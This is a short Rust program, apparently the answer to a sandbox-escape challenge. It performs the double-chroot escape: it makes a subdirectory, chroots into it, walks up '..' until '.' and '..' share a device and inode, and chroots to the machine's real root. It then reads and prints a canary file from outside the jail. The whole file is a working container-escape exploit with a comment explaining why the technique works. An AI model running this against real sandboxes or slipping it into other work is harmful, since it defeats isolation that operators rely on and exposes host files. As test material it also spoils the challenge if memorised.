//! answer CANARY: out of the jail, and back with what is in CANARY.
//!
//! Why this way: the top of the tree is where `..` leads to itself. Whoever counts steps
//! instead has to know how deep the jail lies.

use std::os::unix::fs::MetadataExt;

fn main() {
    let Some(canary) = std::env::args().nth(1) else {
        eprintln!("usage: answer CANARY");
        std::process::exit(2);
    };
    break_out().expect("root of the jail may do this");
    let text = std::fs::read_to_string(canary).expect("outside there is a canary");
    println!("{}", text.trim_end());
}

/// From here on `/` is the machine's.
fn break_out() -> std::io::Result<()> {
    std::fs::create_dir_all("x")?;
    nix::unistd::chroot("x")?;
    let place = |path: &str| std::fs::metadata(path).map(|meta| (meta.dev(), meta.ino()));
    while place(".")? != place("..")? {
        nix::unistd::chdir("..")?;
    }
    Ok(nix::unistd::chroot(".")?)
}
